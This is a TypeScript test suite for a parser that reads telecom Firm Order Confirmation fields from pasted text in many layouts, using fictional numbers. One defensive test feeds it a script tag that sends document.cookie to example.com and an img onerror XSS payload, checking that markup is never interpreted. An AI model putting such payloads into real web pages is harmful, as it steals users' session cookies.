import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_PASTE_CHARACTERS } from './answers.ts';
import {
  FOC_FIELD_LABELS,
  FOC_FIELDS,
  readFoc,
  type FocReading,
  type FocTelephoneNumbers,
  type Found,
} from './foc.ts';
import { parseCircuitId } from './identifiers/circuitId.ts';
import { parseDate } from './identifiers/date.ts';
import { parsePon } from './identifiers/pon.ts';
import { parseServiceOrderNumber } from './identifiers/serviceOrder.ts';
import { parseTelephoneNumbers } from './identifiers/telephone.ts';

// Every number here is fictional: telephone numbers in 555-0100..0199, made-up orders and PONs.

const sure = <T>(value: T, line: number, text: string): Found<T> => ({
  value,
  line,
  sure: true,
  text,
});
const loose = <T>(value: T, line: number, text: string): Found<T> => ({
  value,
  line,
  sure: false,
  text,
});
const tns = (entries: string[], count: number): FocTelephoneNumbers => ({ entries, count });
const complete = (fields: Omit<FocReading, 'issues' | 'fieldsFound'>): FocReading => ({
  ...fields,
  issues: [],
  fieldsFound: Object.keys(fields).length,
});
const lines = (...text: string[]): string => text.join('\n');

/** [name, pasted text, the complete reading]: one or more per layout. */
const FOCS: [string, string, FocReading][] = [
  [
    'LABEL: value lines, LSOG abbreviations',
    lines(
      'AT&T Wholesale - Firm Order Confirmation',
      'PON: ABC123',
      'VER: 02',
      'REQTYP: BB',
      'CCNA: XYZ',
      'D/TSENT: 11/20/2026 10:15 AM',
      'DD: 11/24/2026',
      'DDD: 11/22/2026',
      'ORD: N12345678, C23456789',
      'TN: 214-555-0101',
      'ECCKT: 73/HCGS/123456/000/NE',
    ),
    complete({
      pon: sure('ABC123', 2, 'ABC123'),
      ver: sure('02', 3, '02'),
      reqtyp: sure('BB', 4, 'BB'),
      ccna: sure('XYZ', 5, 'XYZ'),
      focDate: sure('2026-11-20', 6, '11/20/2026 10:15 AM'),
      dueDate: sure('2026-11-24', 7, '11/24/2026'),
      serviceOrders: sure(['N12345678', 'C23456789'], 9, 'N12345678, C23456789'),
      telephoneNumbers: sure(tns(['214-555-0101'], 1), 10, '214-555-0101'),
      circuitIds: sure(['73/HCGS/123456/000/NE'], 11, '73/HCGS/123456/000/NE'),
    }),
  ],
  [
    'LABEL = value and LABEL - value, spelled-out names in any case',
    lines(
      'Purchase Order Number = abc-777',
      'version = 3',
      'Request Type - EB',
      'Date Sent - 2026-11-20',
      'due date = Nov 24, 2026',
      'Service Order Numbers = n 1234 5678',
      'Telephone Numbers - (214) 555-0150',
      'Exchange Company Circuit ID = 12.HCGS.123456..SW',
      'Customer Carrier Name Abbreviation - qrs',
    ),
    complete({
      pon: sure('abc-777', 1, 'abc-777'),
      ver: sure('03', 2, '3'),
      reqtyp: sure('EB', 3, 'EB'),
      focDate: sure('2026-11-20', 4, '2026-11-20'),
      dueDate: sure('2026-11-24', 5, 'Nov 24, 2026'),
      serviceOrders: sure(['N12345678'], 6, 'n 1234 5678'),
      telephoneNumbers: sure(tns(['214-555-0150'], 1), 7, '(214) 555-0150'),
      circuitIds: sure(['12.HCGS.123456..SW'], 8, '12.HCGS.123456..SW'),
      ccna: sure('QRS', 9, 'qrs'),
    }),
  ],
  [
    'LABEL value columns of a screen dump, two fields a line, unknown fields around',
    lines(
      'LSR NO     4471                 PON      ABC123',
      'VER        01                   REQTYP   AB',
      'D/TSENT    11-20-2026-1015AM    CCNA     XYZ',
      'DD         11/24/2026           DDD      11/22/2026',
      'ORD        N12345678 C23456789',
      'TN         214-555-0100-0199',
      'ECCKT      73/HCGS/123456/000/NE',
    ),
    complete({
      pon: sure('ABC123', 1, 'ABC123'),
      ver: sure('01', 2, '01'),
      reqtyp: sure('AB', 2, 'AB'),
      focDate: sure('2026-11-20', 3, '11-20-2026-1015AM'),
      ccna: sure('XYZ', 3, 'XYZ'),
      dueDate: sure('2026-11-24', 4, '11/24/2026'),
      serviceOrders: sure(['N12345678', 'C23456789'], 5, 'N12345678 C23456789'),
      telephoneNumbers: sure(tns(['214-555-0100-0199'], 100), 6, '214-555-0100-0199'),
      circuitIds: sure(['73/HCGS/123456/000/NE'], 7, '73/HCGS/123456/000/NE'),
    }),
  ],
  [
    'a CSV export with quoted fields, one spanning two lines',
    lines(
      '"PON","VER","REQTYP","D/TSENT","DD","ORD","TN","ECCKT","CCNA","Status"',
      '"ABC123","02","BB","11/20/2026 10:15","11/24/2026","N12345678, C23456789","214-555-0101',
      '214-555-0102","73/HCGS/123456/000/NE","XYZ","Confirmed"',
    ),
    complete({
      pon: sure('ABC123', 2, 'ABC123'),
      ver: sure('02', 2, '02'),
      reqtyp: sure('BB', 2, 'BB'),
      focDate: sure('2026-11-20', 2, '11/20/2026 10:15'),
      dueDate: sure('2026-11-24', 2, '11/24/2026'),
      serviceOrders: sure(['N12345678', 'C23456789'], 2, 'N12345678, C23456789'),
      telephoneNumbers: sure(
        tns(['214-555-0101', '214-555-0102'], 2),
        2,
        '214-555-0101\n214-555-0102',
      ),
      circuitIds: sure(['73/HCGS/123456/000/NE'], 3, '73/HCGS/123456/000/NE'),
      ccna: sure('XYZ', 3, 'XYZ'),
    }),
  ],
  [
    'a tab-separated spreadsheet, one row per telephone number',
    lines(
      'PON\tVer\tDue Date\tService Order\tTelephone Number',
      'ABC123\t2\t2026-11-24\tN12345678\t214-555-0101',
      'ABC123\t2\t2026-11-24\tN12345678\t214-555-0102',
      'ABC123\t2\t2026-11-24\tN12345678\t214-555-0103',
    ),
    complete({
      pon: sure('ABC123', 2, 'ABC123'),
      ver: sure('02', 2, '2'),
      dueDate: sure('2026-11-24', 2, '2026-11-24'),
      serviceOrders: sure(['N12345678'], 2, 'N12345678\nN12345678\nN12345678'),
      telephoneNumbers: sure(
        tns(['214-555-0101', '214-555-0102', '214-555-0103'], 3),
        2,
        '214-555-0101\n214-555-0102\n214-555-0103',
      ),
    }),
  ],
  [
    'a pipe table copied from an ordering system',
    lines(
      '| PON    | VER | D/TSENT    | DD         | ECCKT                 |',
      '|--------|-----|------------|------------|-----------------------|',
      '| ABC123 | 01  | 2026-11-20 | 2026-11-24 | 73/HCGS/123456/000/NE |',
    ),
    complete({
      pon: sure('ABC123', 3, 'ABC123'),
      ver: sure('01', 3, '01'),
      focDate: sure('2026-11-20', 3, '2026-11-20'),
      dueDate: sure('2026-11-24', 3, '2026-11-24'),
      circuitIds: sure(['73/HCGS/123456/000/NE'], 3, '73/HCGS/123456/000/NE'),
    }),
  ],
  [
    'a semicolon export with spelled-out headers and two circuit IDs in one cell',
    lines(
      'Purchase Order Number;Version;Date Sent;Due Date (DD);Circuit ID;Customer Carrier Name Abbreviation',
      'ABC-55;1;24 Nov 2026;20261130;"73/HCGS/123456/000/NE, 73/HCGS/123457/000/NE";XYZ',
    ),
    complete({
      pon: sure('ABC-55', 2, 'ABC-55'),
      ver: sure('01', 2, '1'),
      focDate: sure('2026-11-24', 2, '24 Nov 2026'),
      dueDate: sure('2026-11-30', 2, '20261130'),
      circuitIds: sure(
        ['73/HCGS/123456/000/NE', '73/HCGS/123457/000/NE'],
        2,
        '73/HCGS/123456/000/NE, 73/HCGS/123457/000/NE',
      ),
      ccna: sure('XYZ', 2, 'XYZ'),
    }),
  ],
  [
    'the label on one line and the value on the next',
    lines(
      'FIRM ORDER CONFIRMATION',
      '',
      'PON',
      'ABC123',
      'VER',
      '02',
      'D/TSENT',
      '11/20/2026',
      'Due Date',
      '11/24/2026',
      'Service Orders',
      'N12345678',
      'C23456789',
      'Telephone Numbers',
      '214-555-0101',
      '214 555 0110 thru 0119',
      '',
      'CCNA',
      'XYZ',
    ),
    complete({
      pon: sure('ABC123', 4, 'ABC123'),
      ver: sure('02', 6, '02'),
      focDate: sure('2026-11-20', 8, '11/20/2026'),
      dueDate: sure('2026-11-24', 10, '11/24/2026'),
      serviceOrders: sure(['N12345678', 'C23456789'], 12, 'N12345678\nC23456789'),
      telephoneNumbers: sure(
        tns(['214-555-0101', '214-555-0110-0119'], 11),
        15,
        '214-555-0101\n214 555 0110 thru 0119',
      ),
      ccna: sure('XYZ', 19, 'XYZ'),
    }),
  ],
  [
    'a sentence in an e-mail (loose wording: nothing is sure)',
    'PON ABC123 version 2 has been confirmed, due 11/24/2026, orders N12345678 and C23456789',
    complete({
      pon: loose('ABC123', 1, 'ABC123'),
      ver: loose('02', 1, '2'),
      dueDate: loose('2026-11-24', 1, '11/24/2026'),
      serviceOrders: loose(['N12345678', 'C23456789'], 1, 'N12345678 and C23456789'),
    }),
  ],
  [
    'an e-mail paragraph: only "Service orders:" is an explicit label',
    lines(
      'Hello,',
      '',
      'Your LSR PON XYZ-77 VER 03 was confirmed on 11/20/2026 with a due date of 11/24/2026. Service orders: N1234567, C7654321. TNs 214-555-0101 thru 0112',
      '',
      'Regards, AT&T Wholesale',
    ),
    complete({
      pon: loose('XYZ-77', 3, 'XYZ-77'),
      ver: loose('03', 3, '03'),
      focDate: loose('2026-11-20', 3, '11/20/2026'),
      dueDate: loose('2026-11-24', 3, '11/24/2026'),
      serviceOrders: sure(['N1234567', 'C7654321'], 3, 'N1234567, C7654321'),
      telephoneNumbers: loose(tns(['214-555-0101-0112'], 12), 3, '214-555-0101 thru 0112'),
    }),
  ],
  [
    'a screen header aligned with spaces over its value row',
    lines(
      'PON        VER   REQTYP   DD           ORD',
      'ABC123     02    BB       11/24/2026   N12345678',
    ),
    complete({
      pon: sure('ABC123', 2, 'ABC123'),
      ver: sure('02', 2, '02'),
      reqtyp: sure('BB', 2, 'BB'),
      dueDate: sure('2026-11-24', 2, '11/24/2026'),
      serviceOrders: sure(['N12345678'], 2, 'N12345678'),
    }),
  ],
  [
    'a forwarded e-mail: subject, quoted lines, a list joined by "and", an unknown field',
    lines(
      'Subject: FOC for PON ABC123',
      '> PON: ABC123    LSR NO: 4471',
      '> Ported TNs: 214-555-0101, 214-555-0102 and 214-555-0105',
      '> FOC Date: 11/20/2026',
      '> Due Date (DD): 11/24/2026',
      '> AT&T Order No.: N12345678',
    ),
    complete({
      pon: sure('ABC123', 2, 'ABC123'),
      telephoneNumbers: sure(
        tns(['214-555-0101', '214-555-0102', '214-555-0105'], 3),
        3,
        '214-555-0101, 214-555-0102 and 214-555-0105',
      ),
      focDate: sure('2026-11-20', 4, '11/20/2026'),
      dueDate: sure('2026-11-24', 5, '11/24/2026'),
      serviceOrders: sure(['N12345678'], 6, 'N12345678'),
    }),
  ],
  [
    'the HTML source of a page: tags are read as spaces',
    lines(
      '<table><tr><th>PON</th><th>VER</th></tr>',
      '<tr><td>ABC123</td><td>02</td></tr></table>',
      '<p>DD: <b>11/24/2026</b></p>',
    ),
    complete({
      pon: sure('ABC123', 2, 'ABC123'),
      ver: sure('02', 2, '02'),
      dueDate: sure('2026-11-24', 3, '11/24/2026'),
    }),
  ],
];

describe('readFoc: every layout, read completely', () => {
  it.each(FOCS)('%s', (_, text, reading) => {
    expect(readFoc(text)).toEqual(reading);
  });

  it('reads Windows and old Mac line ends the same way', () => {
    const [, text = '', reading] = FOCS[0] ?? [];
    expect(readFoc(text.replace(/\n/g, '\r\n'))).toEqual(reading);
    expect(readFoc(text.replace(/\n/g, '\r'))).toEqual(reading);
  });

  it('has a plain label for every field, in display order', () => {
    expect(Object.keys(FOC_FIELD_LABELS)).toEqual([...FOC_FIELDS]);
    expect(FOC_FIELD_LABELS.dueDate).toBe('Due date (DD)');
    expect(FOC_FIELD_LABELS.serviceOrders).toBe('AT&T service order numbers (ORD)');
  });

  it('takes the same value seen twice once, at its surest place', () => {
    const reading = readFoc(lines('Re: PON ABC123 confirmed', 'PON: ABC123'));
    expect(reading).toEqual(complete({ pon: sure('ABC123', 2, 'ABC123') }));
  });
});

describe('readFoc: what is ambiguous is reported, not guessed', () => {
  it('two different PONs: neither is taken', () => {
    const reading = readFoc(lines('PON: ABC123', 'DD: 11/24/2026', 'PON: XYZ-77'));
    expect(reading.pon).toBeUndefined();
    expect(reading.dueDate).toEqual(sure('2026-11-24', 2, '11/24/2026'));
    expect(reading.issues).toEqual([
      {
        field: 'pon',
        line: 3,
        message:
          'The text holds 2 different PONs: “ABC123” (line 1) and “XYZ-77” (line 3). Paste one FOC at a time, or type the PON of this order yourself',
      },
    ]);
  });

  it('two different versions, due dates and CCNAs: each is reported', () => {
    const reading = readFoc(
      lines('VER: 02', 'version 3', 'DD: 11/24/2026', 'DD: Nov 25, 2026', 'CCNA: XYZ, CCNA: QRS'),
    );
    expect(reading.fieldsFound).toBe(0);
    expect(reading.issues.map((issue) => [issue.field, issue.line])).toEqual([
      ['ver', 2],
      ['dueDate', 4],
      ['ccna', 5],
    ]);
    expect(reading.issues[1]?.message).toMatch(
      /^The text holds 2 different due dates \(DD\): “11\/24\/2026” \(line 3\) and “11\/25\/2026” \(line 4\)/,
    );
  });

  it('a date that could be MM/DD or DD/MM, with nothing to settle it', () => {
    const reading = readFoc(lines('PON: ABC123', 'DD: 05/06/2026'));
    expect(reading).toEqual({
      pon: sure('ABC123', 1, 'ABC123'),
      issues: [
        {
          field: 'dueDate',
          line: 2,
          message:
            'Line 2: the due date (DD) “05/06/2026” could be May 6, 2026 or June 5, 2026, and nothing else in the text shows whether its dates are written month first or day first. Check the FOC and type the date as MM/DD/YYYY',
        },
      ],
      fieldsFound: 1,
    });
  });

  it('another date of the text that can only be month first settles it', () => {
    const reading = readFoc(lines('D/TSENT: 04/20/2026', 'DD: 05/06/2026'));
    expect(reading).toEqual(
      complete({
        focDate: sure('2026-04-20', 1, '04/20/2026'),
        dueDate: sure('2026-05-06', 2, '05/06/2026'),
      }),
    );
  });

  it('a date anywhere in the text (even DDD) that can only be day first settles it', () => {
    const reading = readFoc(lines('DD: 05/06/2026', 'DDD: 20/05/2026'));
    expect(reading).toEqual(complete({ dueDate: sure('2026-06-05', 1, '05/06/2026') }));
  });

  it('dates written both ways leave the ambiguous one unread', () => {
    const reading = readFoc(lines('D/TSENT: 11/20/2026', 'DD: 05/06/2026', 'DDD: 25/05/2026'));
    expect(reading.dueDate).toBeUndefined();
    expect(reading.issues[0]?.message).toMatch(/and the text writes other dates both ways/);
  });

  it('a due date before the FOC date: both kept, neither sure', () => {
    const reading = readFoc(lines('D/TSENT: 11/20/2026', 'DD: 11/18/2026'));
    expect(reading).toEqual({
      focDate: loose('2026-11-20', 1, '11/20/2026'),
      dueDate: loose('2026-11-18', 2, '11/18/2026'),
      issues: [
        {
          field: 'dueDate',
          line: 2,
          message:
            'The due date (DD) 11/18/2026 on line 2 is before the FOC date 11/20/2026 on line 1: check both dates on the FOC and type the right ones',
        },
      ],
      fieldsFound: 2,
    });
  });

  it.each([
    ['DDD', lines('PON: ABC123', 'DDD: 11/24/2026')],
    ['Desired Due Date', lines('PON: ABC123', 'Desired Due Date: 11/24/2026')],
    ['a DDD column', lines('PON,DDD', 'ABC123,11/24/2026')],
    ['DDD on its own line', lines('PON: ABC123', 'DDD', '11/24/2026')],
  ])('%s and no DD: the desired due date is never taken as the due date', (_, text) => {
    const reading = readFoc(text);
    expect(reading.dueDate).toBeUndefined();
    expect(reading.fieldsFound).toBe(1);
    expect(reading.issues).toEqual([
      expect.objectContaining({
        field: 'dueDate',
        message: expect.stringMatching(
          /^Only the desired due date \(DDD, line \d\) is in the text: .* Type the due date \(DD\) from the FOC$/,
        ) as string,
      }),
    ]);
  });

  it('DDD and DD: the DD is the due date', () => {
    const reading = readFoc(
      lines('DDD: 11/22/2026', 'DD: 11/24/2026', 'desired due date 11/21/2026'),
    );
    expect(reading).toEqual(complete({ dueDate: sure('2026-11-24', 2, '11/24/2026') }));
  });

  it.each([
    [
      'TN: 214-555-01',
      'telephoneNumbers',
      /^Line 1: the telephone number \(TN\) “214-555-01” was not taken. Only 8 digits found/,
    ],
    [
      'ORD: 12345678',
      'serviceOrders',
      /^Line 1: the service order number \(ORD\) “12345678” was not taken. Start with the order type letter/,
    ],
    [
      'ECCKT: HC#1',
      'circuitIds',
      /^Line 1: the circuit ID \(ECCKT\) “HC#1” was not taken. Remove “#”/,
    ],
    ['PON: ABC 123 456', 'pon', /^Line 1: the PON “ABC 123 456” was not taken. Remove the spaces/],
    [
      'VER: 123',
      'ver',
      /^Line 1: the version \(VER\) “123” was not taken. A version \(VER\) is 1 or 2 digits/,
    ],
    ['REQTYP: B', 'reqtyp', /was not taken. A REQTYP is 2 letters, like BB/],
    ['CCNA: ABCD', 'ccna', /was not taken. A CCNA is the 3-character code of the CLEC/],
    [
      'DD: 11/24',
      'dueDate',
      /^Line 1: the due date \(DD\) “11\/24” was not taken. Add the year: enter the date as MM\/DD\/YYYY, like 11\/24\/2026$/,
    ],
    ['D/TSENT: 02/30/2026', 'focDate', /was not taken. There is no February 30 in 2026/],
  ])('a value its parser refuses is reported, not taken: %j', (text, field, message) => {
    expect(readFoc(text)).toEqual({
      issues: [{ field, line: 1, message: expect.stringMatching(message) as string }],
      fieldsFound: 0,
    });
  });

  it('a list keeps the values its parser takes, reports the rest and is not sure', () => {
    const reading = readFoc(lines('TN: 214-555-0101, 214-555-01', '214-555-0102', 'Thanks'));
    expect(reading.telephoneNumbers).toEqual(
      loose(tns(['214-555-0101', '214-555-0102'], 2), 1, '214-555-0101, 214-555-01\n214-555-0102'),
    );
    expect(reading.issues).toEqual([
      expect.objectContaining({ field: 'telephoneNumbers', line: 1 }),
    ]);
  });

  it('trailing words of a sentence after "label:" do not cast doubt on the value', () => {
    expect(readFoc('DD: 11/24/2026 as requested, ORD: N12345678 was issued')).toEqual(
      complete({
        dueDate: sure('2026-11-24', 1, '11/24/2026'),
        serviceOrders: sure(['N12345678'], 1, 'N12345678'),
      }),
    );
  });

  it('words that only look like labels are not read: Tennessee, "the order", "due to"', () => {
    const reading = readFoc(
      lines(
        'AT&T Wholesale, 123 Main St, Nashville, TN 37201',
        'Thank you for the order. Due to the holiday, the PON was reviewed.',
      ),
    );
    expect(reading.fieldsFound).toBe(0);
    expect(reading.issues).toEqual([expect.objectContaining({ field: 'text' })]);
  });
});

describe('readFoc: hostile and odd texts', () => {
  it('text that is not an FOC says what the reader looks for', () => {
    expect(readFoc('Lunch at noon?')).toEqual({
      issues: [
        {
          field: 'text',
          message: expect.stringMatching(
            /^No FOC fields found\. .*PON, VER, REQTYP, D\/TSENT, DD, ORD, TN, ECCKT and CCNA/,
          ) as string,
        },
      ],
      fieldsFound: 0,
    });
    expect(readFoc('')).toMatchObject({ fieldsFound: 0, issues: [{ field: 'text' }] });
  });

  it('only labels and no values: each label is reported', () => {
    const reading = readFoc(lines('PON:', 'VER:', 'DD', 'ORD: TN:'));
    expect(reading.fieldsFound).toBe(0);
    expect(reading.issues.map((issue) => [issue.field, issue.line])).toEqual([
      ['pon', 1],
      ['ver', 2],
      ['dueDate', 3],
      ['serviceOrders', 4],
      ['telephoneNumbers', 4],
    ]);
    expect(reading.issues[0]?.message).toBe(
      'Line 1 has the label “PON” but no value after it or on the next line: paste the FOC with its values, or type the PON yourself',
    );
  });

  it('over 1,000,000 characters: not read, and told to paste only the FOC', () => {
    const text = 'PON: ABC123\n'.repeat(MAX_PASTE_CHARACTERS / 12 + 1);
    expect(readFoc(text)).toEqual({
      tooLong: true,
      fieldsFound: 0,
      issues: [
        {
          field: 'text',
          message:
            'The pasted text is over 1,000,000 characters, too long to be one FOC. Paste only the FOC of this order: its e-mail or its ordering-system screen',
        },
      ],
    });
  });

  it('exactly 1,000,000 characters is still read', () => {
    const head = 'PON: ABC123\n';
    const text = head + ' '.repeat(MAX_PASTE_CHARACTERS - head.length);
    expect(readFoc(text)).toEqual(complete({ pon: sure('ABC123', 1, 'ABC123') }));
  });

  it('markup stays plain text: tags are spaces, nothing else is interpreted', () => {
    const reading = readFoc(
      lines(
        'PON: <b>ABC123</b>',
        '<script>document.location = "https://example.com/?" + document.cookie</script>',
        'VER: <img src=x onerror=alert(1)>02',
        'TN: &lt;script&gt;',
      ),
    );
    expect(reading.pon).toEqual(sure('ABC123', 1, 'ABC123'));
    expect(reading.ver).toEqual(sure('02', 3, '02'));
    expect(reading.telephoneNumbers).toBeUndefined();
    expect(reading.issues).toEqual([
      expect.objectContaining({ field: 'telephoneNumbers', line: 4 }),
    ]);
    expect(JSON.stringify(reading)).not.toMatch(/<script|<img/);
  });

  it('binary-ish junk, control characters and lone surrogates are read without throwing', () => {
    const junk = '\u0000\u0001PON\u0000: \uD800ABC\u200B123\u001B[31m\nDD:\u0007 11/24/2026\uFFFF';
    const reading = readFoc(junk);
    expect(reading.dueDate).toMatchObject({ value: '2026-11-24', line: 2 });
    expect(readFoc('\uD83D'.repeat(1000))).toMatchObject({ fieldsFound: 0 });
  });

  it('never throws, even when called with something that is not text', () => {
    const values: unknown[] = [undefined, null, 42, {}, ['PON: ABC123']];
    for (const value of values) {
      expect(readFoc(value as string)).toMatchObject({ fieldsFound: 0 });
    }
  });

  it('lists at most 10 problems a field, then says how many more', () => {
    const text = Array.from({ length: 25 }, (_, i) => `TN: 214-555-${String(i)}`).join('\n');
    const issues = readFoc(text).issues;
    expect(issues).toHaveLength(11);
    expect(issues.at(-1)).toEqual({
      field: 'telephoneNumbers',
      message:
        '15 more problems with the telephone numbers (TN) are not listed: fix the ones above and paste again',
    });
  });

  it('counts a range as all its numbers and never lists them one by one', () => {
    const reading = readFoc('TN: 214-555-0000-9999, 214-555-0100-0199, 214-556-0101');
    expect(reading.telephoneNumbers?.value).toEqual(
      tns(['214-555-0000-9999', '214-555-0100-0199', '214-556-0101'], 10_001),
    );
  });

  it('says when the numbers are more than one list can take', () => {
    const text = `TN:\n${Array.from({ length: 12 }, (_, i) => `214-${String(220 + i)}-0000-9999`).join('\n')}`;
    const reading = readFoc(text);
    expect(reading.telephoneNumbers).toMatchObject({ sure: false, value: { count: 120_000 } });
    expect(reading.issues).toEqual([
      {
        field: 'telephoneNumbers',
        message:
          'The text holds more than 100,000 telephone numbers, more than one list can take. Split the numbers into lists of up to 100,000 and paste each with its FOC fields',
      },
    ]);
  });

  it('stops reading numbers past what one list can take, and says so', () => {
    const text = `TN:\n${Array.from({ length: 30 }, (_, i) => `214-${String(220 + i)}-0000-9999`).join('\n')}`;
    const reading = readFoc(text);
    expect(reading.telephoneNumbers).toMatchObject({ sure: false });
    expect(reading.telephoneNumbers?.value.count).toBeLessThanOrEqual(200_000);
    expect(reading.issues).toEqual([
      expect.objectContaining({
        field: 'telephoneNumbers',
        message: expect.stringMatching(
          /^The text holds more than 100,000 telephone numbers/,
        ) as string,
      }),
    ]);
  });

  it('reads an FOC of 10,000 telephone numbers, one per line', () => {
    const numbers = Array.from({ length: 10_000 }, (_, i) => {
      const line = String(i % 10_000).padStart(4, '0');
      return `214-${String(220 + (i % 7))}-${line}`;
    });
    const text = lines('PON: ABC123', 'DD: 11/24/2026', 'TN:', ...numbers);
    const reading = readFoc(text);
    expect(reading.telephoneNumbers?.value.count).toBe(10_000);
    expect(reading.telephoneNumbers?.value.entries).toHaveLength(10_000);
    expect(reading.telephoneNumbers?.line).toBe(4);
    expect(reading.telephoneNumbers?.sure).toBe(true);
    // How long it takes is `npm run bench`'s to measure (docs/foc.md), not a test's to assert.
  });

  it.each([
    ['a long run of spaces', `PON: x${' '.repeat(300_000)}y`],
    ['a long token', `orders N${'1'.repeat(300_000)}!`],
    ['a long run of slashes', `ECCKT: 73/HCGS/123456/000/NE\n${'/'.repeat(300_000)} x`],
    ['one line of repeated ranges', `TN: ${'214-555-0000-9999 '.repeat(50_000)}`],
    ['many header rows', 'PON,VER\n'.repeat(50_000)],
    ['a quote that never closes', `PON,VER\n"${'a,b\n'.repeat(100_000)}`],
  ])(
    'finishes on %s',
    (_, text) => {
      // A backtracking pattern or a quadratic step takes minutes here: the test's ceiling, far
      // above any busy machine's time, catches only such a hang.
      expect(readFoc(text)).toBeDefined();
    },
    60_000,
  );
});

// ---------------------------------------------------------------------------------------------
// Properties

const lineCount = (text: string): number => text.split(/\r\n|\r|\n/).length;

/** Every line reported is a line of the text, and every value passes its own parser. */
function checkReading(text: string, reading: FocReading): void {
  const last = lineCount(text);
  for (const field of FOC_FIELDS) {
    const found = reading[field];
    if (found === undefined) continue;
    expect(found.line).toBeGreaterThanOrEqual(1);
    expect(found.line).toBeLessThanOrEqual(last);
  }
  for (const issue of reading.issues) {
    expect(issue.message).not.toBe('');
    if (issue.line !== undefined) expect(issue.line).toBeLessThanOrEqual(last);
  }
  expect(reading.fieldsFound).toBe(FOC_FIELDS.filter((field) => field in reading).length);
  checkValues(reading);
}

function checkValues({ pon, ver, reqtyp, ccna, focDate, dueDate, ...lists }: FocReading): void {
  if (pon) expect(parsePon(pon.value)).toMatchObject({ ok: true, value: pon.value });
  if (ver) expect(ver.value).toMatch(/^\d{2}$/);
  if (reqtyp) expect(reqtyp.value).toMatch(/^[A-Z]{2}$/);
  if (ccna) expect(ccna.value).toMatch(/^[A-Z0-9]{3}$/);
  for (const date of [focDate, dueDate]) {
    if (date) expect(parseDate(date.value)).toMatchObject({ ok: true, value: date.value });
  }
  for (const order of lists.serviceOrders?.value ?? []) {
    expect(parseServiceOrderNumber(order)).toMatchObject({ ok: true, value: order });
  }
  for (const id of lists.circuitIds?.value ?? []) {
    expect(parseCircuitId(id)).toMatchObject({ ok: true, value: { id } });
  }
  const numbers = lists.telephoneNumbers?.value;
  if (numbers) {
    const reread = numbers.entries.map((entry) => parseTelephoneNumbers(entry));
    for (const list of reread) expect(list.errors).toEqual([]);
    expect(numbers.count).toBeLessThanOrEqual(
      reread.reduce((n, list) => n + list.values.length, 0),
    );
    expect(numbers.count).toBeGreaterThan(0);
  }
}

/** Ways a paste gets damaged: characters typed, lost, swapped, lines shuffled or doubled. */
const mutation = fc.oneof(
  fc.tuple(fc.nat(), fc.string({ unit: 'binary', maxLength: 8 })).map(
    ([at, s]) =>
      (t: string) =>
        t.slice(0, at % (t.length + 1)) + s + t.slice(at % (t.length + 1)),
  ),
  fc.tuple(fc.nat(), fc.nat({ max: 12 })).map(
    ([at, n]) =>
      (t: string) =>
        t.slice(0, at % (t.length + 1)) + t.slice((at % (t.length + 1)) + n),
  ),
  fc
    .constantFrom(':', ' ', '\n', '\t', ',', '"', '|', '-', '/', '0', '5', 'DD ', 'PON ', 'TN ')
    .chain((s) =>
      fc
        .nat()
        .map(
          (at) => (t: string) => t.slice(0, at % (t.length + 1)) + s + t.slice(at % (t.length + 1)),
        ),
    ),
  fc.nat().map((seed) => (t: string) => {
    const parts = t.split('\n');
    const i = seed % parts.length;
    return [...parts.slice(0, i), parts[i] ?? '', ...parts.slice(i)].join('\n');
  }),
  fc.nat().map((seed) => (t: string) => {
    const parts = t.split('\n');
    const [a, b] = [seed % parts.length, (seed >> 3) % parts.length];
    [parts[a], parts[b]] = [parts[b] ?? '', parts[a] ?? ''];
    return parts.join('\n');
  }),
  fc.constant((t: string) => t.toLowerCase()),
  fc.constant((t: string) => t.toUpperCase()),
);

const anyText = fc.oneof(
  fc.string({ maxLength: 400 }),
  fc.string({ unit: 'binary', maxLength: 400 }),
  fc.string({ unit: 'grapheme', maxLength: 200 }),
  fc.string({
    unit: fc.constantFrom(
      ...'0123456789/-:,;|\t\n "NCT'.split(''),
      'PON',
      'VER',
      'DD',
      'DDD',
      'TN',
      'ORD',
      'ECCKT',
      'CCNA',
      'D/TSENT',
      ' thru ',
      ' and ',
      'due ',
      '214-555-01',
      '11/24/2026',
      '05/06/2026',
      '73/HCGS/',
      '<b>',
    ),
    maxLength: 60,
  }),
);

describe('readFoc: properties', () => {
  it('never throws on any text; reported lines are in the text; values pass their parsers', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        checkReading(text, readFoc(text));
      }),
      { numRuns: 500 },
    );
  });

  it('the same holds for every example FOC, however it is damaged', () => {
    const damaged = fc
      .tuple(fc.constantFrom(...FOCS.map(([, text]) => text)), fc.array(mutation, { maxLength: 6 }))
      .map(([text, changes]) => changes.reduce((t, change) => change(t), text));
    fc.assert(
      fc.property(damaged, (text) => {
        checkReading(text, readFoc(text));
      }),
      { numRuns: 500 },
    );
  });

  it('a clean FOC in LABEL: value lines is read back exactly, in any order', () => {
    const field = fc.constantFrom(
      ['PON', 'ABC-123', 'pon', 'ABC-123'],
      ['VER', '07', 'ver', '07'],
      ['REQTYP', 'CB', 'reqtyp', 'CB'],
      ['DD', '12/21/2026', 'dueDate', '2026-12-21'],
      ['D/TSENT', '11/27/2026', 'focDate', '2026-11-27'],
      ['CCNA', 'QRS', 'ccna', 'QRS'],
    );
    const separators = fc.constantFrom(': ', ' = ', ' - ', '    ', '\t');
    const texts = fc.uniqueArray(field, { selector: ([label]) => label, minLength: 1 });
    fc.assert(
      fc.property(texts, separators, (fields, separator) => {
        const text = fields.map(([label, value]) => `${label}${separator}${value}`).join('\n');
        const reading = readFoc(text);
        expect(reading.issues).toEqual([]);
        fields.forEach(([, written, key, value], index) => {
          expect(reading[key as 'pon']).toEqual(sure(value, index + 1, written));
        });
      }),
    );
  });
});
